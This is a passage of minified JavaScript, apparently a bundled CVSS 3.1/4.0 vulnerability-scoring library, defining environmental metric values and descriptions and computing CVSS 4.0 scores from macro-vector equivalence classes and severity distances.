score."},a.MAV_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},N:{shortName:"N",value:.85,name:"Network",abbreviatedName:"Netw.",jsonSchemaName:"NETWORK",description:"The vulnerable component is bound to the network stack and the set of possible attackers extends beyond the other options listed below, up to and including the entire Internet."},A:{shortName:"A",value:.62,name:"Adjacent Network",abbreviatedName:"Adj. Network",jsonSchemaName:"ADJACENT_NETWORK",description:"The vulnerable component is bound to the network stack, but the attack is limited at the protocol level to a logically adjacent topology."},L:{shortName:"L",value:.55,name:"Local",jsonSchemaName:"LOCAL",description:"The vulnerable component is not bound to the network stack and the attacker's path is via read/write/execute capabilities."},P:{shortName:"P",value:.2,name:"Physical",abbreviatedName:"Phys.",jsonSchemaName:"PHYSICAL",description:"The attack requires the attacker to physically touch or manipulate the vulnerable component."}},a.MAV={name:"Modified Attack Vector",shortName:"MAV",subCategory:"Exploitability Metrics",description:"This metric reflects the context by which vulnerability exploitation is possible. The more remote an attacker can be to attack a host, the greater the vulnerability score.",baseMetricEquivalent:o.AV,values:[o.MAV_VALUES.X,o.MAV_VALUES.N,o.MAV_VALUES.A,o.MAV_VALUES.L,o.MAV_VALUES.P]},a.MAC_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},L:{shortName:"L",value:.77,name:"Low",jsonSchemaName:"LOW",description:"Specialized access conditions or extenuating circumstances do not exist. An attacker can expect repeatable success when attacking the vulnerable component."},H:{shortName:"H",value:.44,name:"High",jsonSchemaName:"HIGH",description:"A successful attack depends on conditions beyond the attacker's control. That is, a successful attack cannot be accomplished at will, but requires the attacker to invest in some measurable amount of effort in preparation or execution against the vulnerable component before a successful attack can be expected."}},a.MAC={name:"Modified Attack Complexity",shortName:"MAC",subCategory:"Exploitability Metrics",description:"This metric describes the conditions beyond the attacker's control that must exist in order to exploit the vulnerability.",baseMetricEquivalent:o.AC,values:[o.MAC_VALUES.X,o.MAC_VALUES.L,o.MAC_VALUES.H]},a.MPR_VALUES={X:{shortName:"X",value:1,changedValue:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},N:{shortName:"N",value:.85,changedValue:.85,name:"None",jsonSchemaName:"NONE",description:"The attacker is unauthorized prior to attack, and therefore does not require any access to settings or files of the vulnerable system to carry out an attack."},L:{shortName:"L",value:.62,changedValue:.68,name:"Low",jsonSchemaName:"LOW",description:"The attacker requires privileges that provide basic user capabilities that could normally affect only settings and files owned by a user. Alternatively, an attacker with Low privileges has the ability to access only non-sensitive resources."},H:{shortName:"H",value:.27,changedValue:.5,name:"High",jsonSchemaName:"HIGH",description:"The attacker requires privileges that provide significant (e.g., administrative) control over the vulnerable component allowing access to component-wide settings and files."}},a.MPR={name:"Modified Privileges Required",shortName:"MPR",subCategory:"Exploitability Metrics",description:"This metric describes the level of privileges an attacker must possess before successfully exploiting the vulnerability.",baseMetricEquivalent:o.PR,values:[o.MPR_VALUES.X,o.MPR_VALUES.N,o.MPR_VALUES.L,o.MPR_VALUES.H]},a.MUI_VALUES={X:{shortName:"X",value:1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},N:{shortName:"N",value:.85,name:"None",jsonSchemaName:"NONE",description:"The vulnerable system can be exploited without interaction from any user."},R:{shortName:"R",value:.62,name:"Required",jsonSchemaName:"REQUIRED",description:"Successful exploitation of this vulnerability requires a user to take some action before the vulnerability can be exploited. For example, a successful exploit may only be possible during the installation of an application by a system administrator."}},a.MUI={name:"Modified User Interaction",shortName:"MUI",subCategory:"Exploitability Metrics",description:"This metric captures the requirement for a user, other than the attacker, to participate in the successful compromise of the vulnerable component.",baseMetricEquivalent:o.UI,values:[o.MUI_VALUES.X,o.MUI_VALUES.N,o.MUI_VALUES.R]},a.MS_VALUES={X:{shortName:"X",value:!1,name:"Not Defined",abbreviatedName:"Not Def.",jsonSchemaName:"NOT_DEFINED",description:"Component is not defined."},U:{shortName:"U",value:!1,name:"Unchanged",abbreviatedName:"Unchang.",jsonSchemaName:"UNCHANGED",description:"An exploited vulnerability can only affect resources managed by the same authority."},C:{shortName:"C",value:!0,name:"Changed",jsonSchemaName:"CHANGED",description:"An exploited vulnerability can affect resources beyond the authorization privileges intended by the vulnerable system's design."}},a.MS={name:"Modified Scope",shortName:"MS",subCategory:"Exploitability Metrics",description:"Can an exploit of the vulnerability be accomplished remotely?",baseMetricEquivalent:o.S,values:[o.MS_VALUES.X,o.MS_VALUES.U,o.MS_VALUES.C]},a.MC={name:"Confidentiality Impact",shortName:"MC",subCategory:"Modified Impact",description:"This metric measures the impact to the confidentiality of the information resources managed by a software component due to a successfully exploited vulnerability.",baseMetricEquivalent:o.C,values:o.CONFIDENTIALITY_IMPACT},a.MI={name:"Integrity Impact",shortName:"MI",subCategory:"Modified Impact",description:"This metric measures the impact to integrity of a successfully exploited vulnerability.",baseMetricEquivalent:o.I,values:o.INTEGRITY_IMPACT},a.MA={name:"Availability Impact",shortName:"MA",subCategory:"Modified Impact",description:"This metric measures the impact to the availability of the impacted component resulting from a successfully exploited vulnerability.",baseMetricEquivalent:o.A,values:o.AVAILABILITY_IMPACT},a.CR={name:"Confidentiality Requirement",shortName:"CR",subCategory:"Modified Requirement (Impact Subscore) Modifiers",description:"This metric describes the remediation level for a vulnerability in an affected resource.",values:o.CONFIDENTIALITY_REQUIREMENT},a.IR={name:"Integrity Requirement",shortName:"IR",subCategory:"Modified Requirement (Impact Subscore) Modifiers",description:"This metric describes the remediation level for a vulnerability in an affected resource.",values:o.INTEGRITY_REQUIREMENT},a.AR={name:"Availability Requirement",shortName:"AR",subCategory:"Modified Requirement (Impact Subscore) Modifiers",description:"This metric describes the remediation level for a vulnerability in an affected resource.",values:o.AVAILABILITY_REQUIREMENT},a.ENVIRONMENTAL_CATEGORY_VALUES=[o.CR,o.IR,o.AR,o.MAV,o.MAC,o.MPR,o.MUI,o.MS,o.MC,o.MI,o.MA],a.REGISTERED_COMPONENTS=new Map,o.REGISTERED_COMPONENTS.set(o.BASE_CATEGORY,o.BASE_CATEGORY_VALUES),o.REGISTERED_COMPONENTS.set(o.TEMPORAL_CATEGORY,o.TEMPORAL_CATEGORY_VALUES),o.REGISTERED_COMPONENTS.set(o.ENVIRONMENTAL_CATEGORY,o.ENVIRONMENTAL_CATEGORY_VALUES),a.ATTRIBUTE_SEVERITY_ORDER=[[o.S_VALUES.U,o.MS_VALUES.U],[o.CONFIDENTIALITY_IMPACT_VALUES.N,o.INTEGRITY_IMPACT_VALUES.N,o.AVAILABILITY_IMPACT_VALUES.N],[o.AV_VALUES.P,o.MAV_VALUES.P],[o.CONFIDENTIALITY_IMPACT_VALUES.L,o.INTEGRITY_IMPACT_VALUES.L,o.AVAILABILITY_IMPACT_VALUES.L],[o.PR_VALUES.H,o.MPR_VALUES.H],[o.AC_VALUES.H,o.MAC_VALUES.H],[o.CONFIDENTIALITY_REQUIREMENT_VALUES.L,o.INTEGRITY_REQUIREMENT_VALUES.L,o.AVAILABILITY_REQUIREMENT_VALUES.L],[o.AV_VALUES.L,o.MAV_VALUES.L],[o.CONFIDENTIALITY_IMPACT_VALUES.H,o.INTEGRITY_IMPACT_VALUES.H,o.AVAILABILITY_IMPACT_VALUES.H],[o.AV_VALUES.A,o.MAV_VALUES.A],[o.UI_VALUES.R,o.MUI_VALUES.R],[o.PR_VALUES.L,o.MPR_VALUES.L],[o.AC_VALUES.L,o.MAC_VALUES.L],[o.AV_VALUES.N,o.MAV_VALUES.N],[o.PR_VALUES.N,o.MPR_VALUES.N],[o.UI_VALUES.N,o.MUI_VALUES.N],[o.E_VALUES.U],[o.E_VALUES.P],[o.E_VALUES.F],[o.E_VALUES.H],[o.E_VALUES.X],[o.RC_VALUES.U],[o.RL_VALUES.O],[o.RL_VALUES.T],[o.RC_VALUES.R],[o.RL_VALUES.W],[o.AV_VALUES.X,o.MAV_VALUES.X],[o.AC_VALUES.X,o.MAC_VALUES.X],[o.PR_VALUES.X,o.MPR_VALUES.X],[o.UI_VALUES.X,o.MUI_VALUES.X],[o.S_VALUES.C,o.MS_VALUES.C],[o.S_VALUES.X,o.MS_VALUES.X],[o.CONFIDENTIALITY_IMPACT_VALUES.X],[o.INTEGRITY_IMPACT_VALUES.X],[o.AVAILABILITY_IMPACT_VALUES.X],[o.RL_VALUES.U],[o.RL_VALUES.X],[o.RC_VALUES.C],[o.RC_VALUES.X],[o.CONFIDENTIALITY_REQUIREMENT_VALUES.M,o.INTEGRITY_REQUIREMENT_VALUES.M,o.AVAILABILITY_REQUIREMENT_VALUES.M],[o.CONFIDENTIALITY_REQUIREMENT_VALUES.X,o.INTEGRITY_REQUIREMENT_VALUES.X,o.AVAILABILITY_REQUIREMENT_VALUES.X],[o.CONFIDENTIALITY_REQUIREMENT_VALUES.H,o.INTEGRITY_REQUIREMENT_VALUES.H,o.AVAILABILITY_REQUIREMENT_VALUES.H]]},972:(e,t,o)=>{var a;Object.defineProperty(t,"__esModule",{value:!0}),t.Cvss4P0MacroVector=void 0;const i=o(730),s=o(759);class n{constructor(e,t,o,a,i,s,n){this.eq1=e,this.eq2=t,this.eq3=o,this.eq4=a,this.eq5=i,this.eq6=s,this.jointEq3AndEq6=n}static fromVector(e){const t=a.findMatchingEQ("1",a.EQ1_DEFINITIONS,e),o=a.findMatchingEQ("2",a.EQ2_DEFINITIONS,e),i=a.findMatchingEQ("3",a.EQ3_DEFINITIONS,e),s=a.findMatchingEQ("4",a.EQ4_DEFINITIONS,e),n=a.findMatchingEQ("5",a.EQ5_DEFINITIONS,e),r=a.findMatchingEQ("6",a.EQ6_DEFINITIONS,e),c=a.findMatchingEQ("3,6",a.JOINT_EQ3_EQ6_DEFINITIONS,e);return new a(t,o,i,s,n,r,c)}static findMatchingEQ(e,t,o){for(let e of t)if(e.matchesConstraints(o))return e;throw new Error("No matching EQ found for "+e+" and vector "+o)}getEq1(){return this.eq1}getEq2(){return this.eq2}getEq3(){return this.eq3}getEq4(){return this.eq4}getEq5(){return this.eq5}getEq6(){return this.eq6}getJointEq3AndEq6(){return this.jointEq3AndEq6}getEQ(e){switch(e){case 1:return this.eq1;case 2:return this.eq2;case 3:return this.eq3;case 4:return this.eq4;case 5:return this.eq5;case 6:return this.eq6;case 7:return this.jointEq3AndEq6;default:throw new Error("Invalid EQ index: "+e)}}getLookupTableScore(){return a.getMacroVectorScore(this)}static getMacroVectorScore(e){const t=e.toString(),o=s.Cvss4P0Components.MV_LOOKUP[t];return void 0===o?NaN:o}toString(){return this.eq1.getLevel()+this.eq2.getLevel()+this.eq3.getLevel()+this.eq4.getLevel()+this.eq5.getLevel()+this.eq6.getLevel()}deriveNextLower(e){const t=1!==e?this.eq1:this.getNextLower(a.EQ1_DEFINITIONS,this.eq1),o=2!==e?this.eq2:this.getNextLower(a.EQ2_DEFINITIONS,this.eq2),i=3!==e?this.eq3:this.getNextLower(a.EQ3_DEFINITIONS,this.eq3),s=4!==e?this.eq4:this.getNextLower(a.EQ4_DEFINITIONS,this.eq4),n=5!==e?this.eq5:this.getNextLower(a.EQ5_DEFINITIONS,this.eq5),r=6!==e?this.eq6:this.getNextLower(a.EQ6_DEFINITIONS,this.eq6),c=7!==e?this.jointEq3AndEq6:this.getNextLower(a.JOINT_EQ3_EQ6_DEFINITIONS,this.jointEq3AndEq6);return new a(t,o,i,s,n,r,c)}static getIndexInDefinitions(e,t){for(let o=0;o<e.length;o++)if(e[o]===t)return o;throw new Error("EQ not found in definitions: "+t)}getNextLower(e,t){const o=a.getIndexInDefinitions(e,t);return e.length>o+1?e[o+1]:a.EQ_ERROR_DEFINITION}static is(e,t,o){return o===a.getComparisonMetric(e,t).shortName}static getComparisonMetricComponent(e,t){return a.getComparisonMetric(e,t.shortName)}static getComparisonMetric(e,t){const o=e.getComponentByString(t);if("E"===t&&s.Cvss4P0Components.E_VALUES.X===o)return s.Cvss4P0Components.E_VALUES.A;if("CR"===t&&s.Cvss4P0Components.REQUIREMENT_CONFIDENTIALITY_MODIFIED_VALUES.X===o)return s.Cvss4P0Components.REQUIREMENT_CONFIDENTIALITY_MODIFIED_VALUES.H;if("IR"===t&&s.Cvss4P0Components.REQUIREMENT_INTEGRITY_MODIFIED_VALUES.X===o)return s.Cvss4P0Components.REQUIREMENT_INTEGRITY_MODIFIED_VALUES.H;if("AR"===t&&s.Cvss4P0Components.REQUIREMENT_AVAILABILITY_MODIFIED_VALUES.X===o)return s.Cvss4P0Components.REQUIREMENT_AVAILABILITY_MODIFIED_VALUES.H;if("MSI"===t&&s.Cvss4P0Components.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED_VALUES.X===o&&"S"===e.getComponentByString("SI").shortName)return s.Cvss4P0Components.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED_VALUES.H;if("MSA"===t&&s.Cvss4P0Components.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED_VALUES.X===o&&"S"===e.getComponentByString("SA").shortName)return s.Cvss4P0Components.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED_VALUES.H;try{const o=e.getComponentByString((t.startsWith("M")?"":"M")+t),a=o.shortName;if(null!=a&&"X"!==a)return o}catch(e){}return o}}t.Cvss4P0MacroVector=n,a=n,n.EQ_ERROR_DEFINITION=new i.EQ("9",-1,[],(()=>!0)),n.EQ1_DEFINITIONS=[new i.EQ("0",1,["AV:N/PR:N/UI:N"],(e=>a.is(e,"AV","N")&&a.is(e,"PR","N")&&a.is(e,"UI","N"))),new i.EQ("1",4,["AV:A/PR:N/UI:N","AV:N/PR:L/UI:N","AV:N/PR:N/UI:P"],(e=>(a.is(e,"AV","N")||a.is(e,"PR","N")||a.is(e,"UI","N"))&&!(a.is(e,"AV","N")&&a.is(e,"PR","N")&&a.is(e,"UI","N"))&&!a.is(e,"AV","P"))),new i.EQ("2",5,["AV:P/PR:N/UI:N","AV:A/PR:L/UI:P"],(e=>a.is(e,"AV","P")||!(a.is(e,"AV","N")||a.is(e,"PR","N")||a.is(e,"UI","N"))))],n.EQ2_DEFINITIONS=[new i.EQ("0",1,["AC:L/AT:N"],(e=>a.is(e,"AC","L")&&a.is(e,"AT","N"))),new i.EQ("1",2,["AC:H/AT:N","AC:L/AT:P"],(e=>!(a.is(e,"AC","L")&&a.is(e,"AT","N"))))],n.EQ3_DEFINITIONS=[new i.EQ("0",-1,["VC:H/VI:H/VA:H"],(e=>a.is(e,"VC","H")&&a.is(e,"VI","H"))),new i.EQ("1",-1,["VC:L/VI:H/VA:H","VC:H/VI:L/VA:H"],(e=>!(a.is(e,"VC","H")&&a.is(e,"VI","H"))&&(a.is(e,"VC","H")||a.is(e,"VI","H")||a.is(e,"VA","H")))),new i.EQ("2",-1,["VC:L/VI:L/VA:L"],(e=>!(a.is(e,"VC","H")||a.is(e,"VI","H")||a.is(e,"VA","H"))))],n.EQ4_DEFINITIONS=[new i.EQ("0",6,["SC:H/SI:S/SA:S"],(e=>a.is(e,"MSI","S")||a.is(e,"MSA","S"))),new i.EQ("1",5,["SC:H/SI:H/SA:H"],(e=>!(a.is(e,"MSI","S")&&a.is(e,"MSA","S"))&&(a.is(e,"SC","H")||a.is(e,"SI","H")||a.is(e,"SA","H")))),new i.EQ("2",4,["SC:L/SI:L/SA:L"],(e=>!(a.is(e,"MSI","S")&&a.is(e,"MSA","S")||a.is(e,"SC","H")||a.is(e,"SI","H")||a.is(e,"SA","H"))))],n.EQ5_DEFINITIONS=[new i.EQ("0",1,["E:A"],(e=>a.is(e,"E","A"))),new i.EQ("1",1,["E:P"],(e=>a.is(e,"E","P"))),new i.EQ("2",1,["E:U"],(e=>a.is(e,"E","U")))],n.EQ6_DEFINITIONS=[new i.EQ("0",-1,["AV:N/PR:N/UI:N"],(e=>a.is(e,"CR","H")&&a.is(e,"VC","H")||a.is(e,"IR","H")&&a.is(e,"VI","H")||a.is(e,"AR","H")&&a.is(e,"VA","H"))),new i.EQ("1",-1,["VC:H/VI:H/VA:H/CR:M/IR:M/AR:M","VC:H/VI:H/VA:L/CR:M/IR:M/AR:H","VC:H/VI:L/VA:H/CR:M/IR:H/AR:M","VC:H/VI:L/VA:L/CR:M/IR:H/AR:H","VC:L/VI:H/VA:H/CR:H/IR:M/AR:M","VC:L/VI:H/VA:L/CR:H/IR:M/AR:H","VC:L/VI:L/VA:H/CR:H/IR:H/AR:M","VC:L/VI:L/VA:L/CR:H/IR:H/AR:H"],(e=>!(a.is(e,"CR","H")&&a.is(e,"VC","H")||a.is(e,"IR","H")&&a.is(e,"VI","H")||a.is(e,"AR","H")&&a.is(e,"VA","H"))))],n.JOINT_EQ3_EQ6_DEFINITIONS=[new i.EQ("00",7,["VC:H/VI:H/VA:H/CR:H/IR:H/AR:H"],(e=>a.is(e,"VC","H")&&a.is(e,"VI","H")&&(a.is(e,"CR","H")||a.is(e,"IR","H")||a.is(e,"AR","H")&&a.is(e,"VA","H")))),new i.EQ("01",6,["VC:H/VI:H/VA:L/CR:M/IR:M/AR:H","VC:H/VI:H/VA:H/CR:M/IR:M/AR:M"],(e=>a.is(e,"VC","H")&&a.is(e,"VI","H")&&!(a.is(e,"CR","H")||a.is(e,"IR","H"))&&!(a.is(e,"AR","H")&&a.is(e,"VA","H")))),new i.EQ("10",8,["VC:L/VI:H/VA:H/CR:H/IR:H/AR:H","VC:H/VI:L/VA:H/CR:H/IR:H/AR:H"],(e=>!(a.is(e,"VC","H")&&a.is(e,"VI","H"))&&(a.is(e,"VC","H")||a.is(e,"VI","H")||a.is(e,"VA","H"))&&(a.is(e,"CR","H")&&a.is(e,"VC","H")||a.is(e,"IR","H")&&a.is(e,"VI","H")||a.is(e,"AR","H")&&a.is(e,"VA","H")))),new i.EQ("11",8,["VC:L/VI:H/VA:L/CR:H/IR:M/AR:H","VC:L/VI:H/VA:H/CR:H/IR:M/AR:M","VC:H/VI:L/VA:H/CR:M/IR:H/AR:M","VC:H/VI:L/VA:L/CR:M/IR:H/AR:H","VC:L/VI:L/VA:H/CR:H/IR:H/AR:M"],(e=>!(a.is(e,"VC","H")&&a.is(e,"VI","H"))&&(a.is(e,"VC","H")||a.is(e,"VI","H")||a.is(e,"VA","H"))&&!(a.is(e,"CR","H")&&a.is(e,"VC","H"))&&!(a.is(e,"IR","H")&&a.is(e,"VI","H"))&&!(a.is(e,"AR","H")&&a.is(e,"VA","H")))),new i.EQ("20",0,[],(e=>!1)),new i.EQ("21",10,["VC:L/VI:L/VA:L/CR:H/IR:H/AR:H"],(e=>!(a.is(e,"VC","H")||a.is(e,"VI","H")||a.is(e,"VA","H")||a.is(e,"CR","H")&&a.is(e,"VC","H")||a.is(e,"IR","H")&&a.is(e,"VI","H")||a.is(e,"AR","H")&&a.is(e,"VA","H"))))]},987:(e,t,o)=>{Object.defineProperty(t,"__esModule",{value:!0}),t.Cvss4P0=void 0;const a=o(154),i=o(972),s=o(904),n=o(759),r=o(730),c=o(951);class l extends a.CvssVector{constructor(e){super(e),this.ROUNDING_EPSILON=Math.pow(10,-6)}getRegisteredComponents(){return n.Cvss4P0Components.REGISTERED_COMPONENTS_EDITOR_ORDER}getVectorStringOrderProperties(){return n.Cvss4P0Components.REGISTERED_COMPONENTS_VECTOR_STRING_ORDER}getVectorPrefix(){return"CVSS:4.0/"}getVectorName(){return"CVSS:4.0"}fillAverageVector(){this.applyVector("AV:A/AC:L/AT:N/PR:N/UI:N/VC:L/VI:L/VA:L/SC:L/SI:L/SA:L")}fillRandomBaseVector(){const e=n.Cvss4P0Components.BASE_CATEGORY_VALUES;for(let t=0;t<e.length;t++){const o=e[t],a=super.pickRandomDefinedComponentValue(o);if(!a)return console.warn("Failed to pick random vector component for",o,", filling average vector instead"),void this.fillAverageVector();this.applyComponent(o,a)}}calculateScoresInternal(e=!1){const t=this.isAnyEnvironmentalDefined(),o=this.isAnyThreatDefined(),a=this.calculateOverallScore();let i,s,r;if(t||o){const e=this.clone();e.clearSpecifiedComponents(n.Cvss4P0Components.THREAT_CATEGORY_VALUES),e.clearSpecifiedComponents(n.Cvss4P0Components.ENVIRONMENTAL_MODIFIED_BASE_CATEGORY_VALUES),e.clearSpecifiedComponents(n.Cvss4P0Components.ENVIRONMENTAL_SECURITY_REQUIREMENT_CATEGORY_VALUES),i=e.calculateOverallScore()}else i=a;if(t)if(o){const e=this.clone();e.clearSpecifiedComponents(n.Cvss4P0Components.THREAT_CATEGORY_VALUES),s=e.calculateOverallScore()}else s=a;if(o)if(t){const e=this.clone();e.clearSpecifiedComponents(n.Cvss4P0Components.ENVIRONMENTAL_MODIFIED_BASE_CATEGORY_VALUES),e.clearSpecifiedComponents(n.Cvss4P0Components.ENVIRONMENTAL_SECURITY_REQUIREMENT_CATEGORY_VALUES),r=e.calculateOverallScore()}else r=a;return{normalized:e,overall:a,base:a,baseMetricsOnly:i,environmental:s,threat:r,vector:this.toString()}}toString(e=!1,t=this.getVectorStringOrderProperties(),o=!1){return super.toString(e,t,o)}calculateOverallScore(){if(!this.isBaseFullyDefined())return 0;if(["VC","VI","VA","SC","SI","SA"].map((e=>i.Cvss4P0MacroVector.getComparisonMetric(this,e))).every((e=>"N"===e.shortName)))return 0;const e=this.getMacroVector(),t=e.getLookupTableScore(),o=(0,s.getEqImplementations)();(e.getEq3().getLevel()+e.getEq6().getLevel()).toLowerCase()!==e.getJointEq3AndEq6().getLevel().toLowerCase()&&console.warn(`CVSS 4.0: Joint Eq3 and Eq6 level [${e.getJointEq3AndEq6().getLevel()}] does not match Eq3 [${e.getEq3().getLevel()}] and Eq6 [${e.getEq6().getLevel()}]`);const a=o.map((t=>t.getHighestSeverityVectors(e))),n=this.generateCvssPermutations(a[0],a[1],a[2],a[3],a[4]);if(0===n.length)return console.warn(`No max vectors found for ${e}`),0;const r=this.calculateSeverityDistancesByComparingToHighestSeverityVectors(n),c=new m;for(const a of o){const o=a.deriveNextLowerMacro(e),i=t-a.lookupScoresForNextLowerMacro(o),s=a.lookupMacroVectorDepth(e),n=a.getRelevantAttributes().map((e=>r.get(e)||0)).reduce(((e,t)=>e+t),0);if(!isNaN(i)&&0!==s){const e=n/s*i;c.add(e)}}const l=t-c.get(0);return l<0?0:l>10?10:this.roundToDecimalPlaces(l)}roundToDecimalPlaces(e){return Math.round(10*(e+this.ROUNDING_EPSILON))/10}generateCvssPermutations(e,t,o,a,i){const s=[];return e.forEach((e=>{t.forEach((t=>{o.forEach((o=>{a.forEach((a=>{i.forEach((i=>{const n=`${e}/${t}/${o}/${a}/${i}`;s.push(new l(n))}))}))}))}))})),s}severityDistance(e,t,o,a){const i="X"===t.shortName?void 0===e.worseCaseValue?t:e.worseCaseValue:t,s="X"===a.shortName?void 0===o.worseCaseValue?a:o.worseCaseValue:a;let n,r,c,l;if(e!==o){const t=e.name.startsWith("Modified"),a=o.name.startsWith("Modified");if(t&&!a){const t=e.values.find((e=>e.shortName===s.shortName));if(!t)throw new Error("Cannot find modified value for "+s);r=i,l=t,n=e,c=e}else{if(t||!a)return console.warn(`Cannot compute severity distance for [${i}] and [${s}], assuming distance is 0`),0;{const e=o.values.find((e=>e.shortName===i.shortName));if(!e)throw new Error("Cannot find modified value for "+i);r=e,l=s,n=o,c=o}}}else r=i,l=s,n=e,c=o;return n.values.indexOf(r)-c.values.indexOf(l)}severityDistanceBetweenComponents(e,t,o,a){const i=e.values.find((e=>e.shortName===t.shortName)),s=o.values.find((e=>e.shortName===a.shortName));if(!i)throw new Error(`Cannot find component values for ${e.name} with short name ${t.shortName} in ${e.values.map((e=>e.shortName)).join(", ")}`);if(!s)throw new Error(`Cannot find component values for ${o.name} with short name ${a.shortName} in ${o.values.map((e=>e.shortName)).join(", ")}`);return e.values.indexOf(i)-o.values.indexOf(s)}severityDistanceToVector(e){let t=0;return n.Cvss4P0Components.REGISTERED_COMPONENTS_EDITOR_ORDER.forEach((o=>{o.forEach((o=>{const a=this.getComponent(o),i=e.getComponent(o);t+=this.severityDistanceBetweenComponents(o,a,o,i)}))})),t}calculateSeverityDistancesByComparingToHighestSeverityVectors(e){const t=new Map;for(const o of e){t.set("AV",this.severityDistanceBetweenComponents(n.Cvss4P0Components.AV,i.Cvss4P0MacroVector.getComparisonMetricComponent(this,n.Cvss4P0Components.AV),n.Cvss4P0Components.AV,i.Cvss4P0MacroVector.getComparisonMetricComponent(o,n.Cvss4P0Components.AV))),t.set("PR",this.severityDistanceBetweenComponents(n.Cvss4P0Components.PR,i.Cvss4P0MacroVector.getComparisonMetricComponent(this,n.Cvss4P0Components.PR),n.Cvss4P0Components.PR,i.Cvss4P0MacroVector.getComparisonMetricComponent(o,n.Cvss4P0Components.PR))),t.set("UI",this.severityDistanceBetweenComponents(n.Cvss4P0Components.UI,i.Cvss4P0MacroVector.getComparisonMetricComponent(this,n.Cvss4P0Components.UI),n.Cvss4P0Components.UI,i.Cvss4P0MacroVector.getComparisonMetricComponent(o,n.Cvss4P0Components.UI))),t.set("AC",this.severityDistanceBetweenComponents(n.Cvss4P0Components.AC,i.Cvss4P0MacroVector.getComparisonMetricComponent(this,n.Cvss4P0Components.AC),n.Cvss4P0Components.AC,i.Cvss4P0MacroVector.getComparisonMetricComponent(o,n.Cvss4P0Components.AC))),t.set("AT",this.severityDistanceBetweenComponents(n.Cvss4P0Components.AT,i.Cvss4P0MacroVector.getComparisonMetricComponent(this,n.Cvss4P0Components.AT),n.Cvss4P0Components.AT,i.Cvss4P0MacroVector.getComparisonMetricComponent(o,n.Cvss4P0Components.AT))),t.set("VC",this.severityDistanceBetweenComponents(n.Cvss4P0Components.VC,i.Cvss4P0MacroVector.getComparisonMetricComponent(this,n.Cvss4P0Components.VC),n.Cvss4P0Components.VC,i.Cvss4P0MacroVector.getComparisonMetricComponent(o,n.Cvss4P0Components.VC))),t.set("VI",this.severityDistanceBetweenComponents(n.Cvss4P0Components.VI,i.Cvss4P0MacroVector.getComparisonMetricComponent(this,n.Cvss4P0Components.VI),n.Cvss4P0Components.VI,i.Cvss4P0MacroVector.getComparisonMetricComponent(o,n.Cvss4P0Components.VI))),t.set("VA",this.severityDistanceBetweenComponents(n.Cvss4P0Components.VA,i.Cvss4P0MacroVector.getComparisonMetricComponent(this,n.Cvss4P0Components.VA),n.Cvss4P0Components.VA,i.Cvss4P0MacroVector.getComparisonMetricComponent(o,n.Cvss4P0Components.VA))),t.set("SC",this.severityDistanceBetweenComponents(n.Cvss4P0Components.SC,i.Cvss4P0MacroVector.getComparisonMetricComponent(this,n.Cvss4P0Components.SC),n.Cvss4P0Components.SC,i.Cvss4P0MacroVector.getComparisonMetricComponent(o,n.Cvss4P0Components.SC))),t.set("CR",this.severityDistanceBetweenComponents(n.Cvss4P0Components.CR,i.Cvss4P0MacroVector.getComparisonMetricComponent(this,n.Cvss4P0Components.CR),n.Cvss4P0Components.CR,i.Cvss4P0MacroVector.getComparisonMetricComponent(o,n.Cvss4P0Components.CR))),t.set("IR",this.severityDistanceBetweenComponents(n.Cvss4P0Components.IR,i.Cvss4P0MacroVector.getComparisonMetricComponent(this,n.Cvss4P0Components.IR),n.Cvss4P0Components.IR,i.Cvss4P0MacroVector.getComparisonMetricComponent(o,n.Cvss4P0Components.IR))),t.set("AR",this.severityDistanceBetweenComponents(n.Cvss4P0Components.AR,i.Cvss4P0MacroVector.getComparisonMetricComponent(this,n.Cvss4P0Components.AR),n.Cvss4P0Components.AR,i.Cvss4P0MacroVector.getComparisonMetricComponent(o,n.Cvss4P0Components.AR)));const e=this.getComponent(n.Cvss4P0Components.SI)===n.Cvss4P0Components.SUBSEQUENT_SYSTEM_INTEGRITY_MODIFIED_VALUES.S?"MSI":"SI",a=this.getComponent(n.Cvss4P0Components.SA)===n.Cvss4P0Components.SUBSEQUENT_SYSTEM_AVAILABILITY_MODIFIED_VALUES.S?"MSA":"SA";if(t.set(e,this.severityDistanceBetweenComponents(n.Cvss4P0Components.SI,i.Cvss4P0MacroVector.getComparisonMetricComponent(this,n.Cvss4P0Components.SI),n.Cvss4P0Components.SI,i.Cvss4P0MacroVector.getComparisonMetricComponent(o,n.Cvss4P0Components.SI))),t.set(a,this.severityDistanceBetweenComponents(n.Cvss4P0Components.SA,i.Cvss4P0MacroVector.getComparisonMetricComponent(this,n.Cvss4P0Components.SA),n.Cvss4P0Components.SA,i.Cvss4P0MacroVector.getComparisonMetricComponent(o,n.Cvss4P0Components.SA))),!Array.from(t.values()).some((e=>e<0)))break;t.clear()}return 0===t.size&&console.warn(`No severity distances found for [${this.toString()}]`),t}getNomenclature(){let e="CVSS-B";return this.isCategoryPartiallyDefined(n.Cvss4P0Components.THREAT_CATEGORY)&&(e+="T"),(this.isCategoryPartiallyDefined(n.Cvss4P0Components.ENVIRONMENTAL_MODIFIED_BASE_CATEGORY)||this.isCategoryPartiallyDefined(n.Cvss4P0Components.ENVIRONMENTAL_SECURITY_REQUIREMENT_CATEGORY))&&(e+="E"),e}getMacroVector(){return i.Cvss4P0MacroVector.fromVector(this)}isBaseFullyDefined(){return super.isCategoryFullyDefined(n.Cvss4P0Components.BASE_CATEGORY)}isAnyBaseDefined(){return super.isCategoryPartiallyDefined(c.Cvss3P1Components.BASE_CATEGORY)}isThreatFullyDefined(){return super.isCategoryFullyDefined(n.Cvss4P0Components.THREAT_CATEGORY)}isAnyThreatDefined(){return super.isCategoryPartiallyDefined(n.Cvss4P0Components.THREAT_CATEGORY)}isAnyEnvironmentalDefined(){return 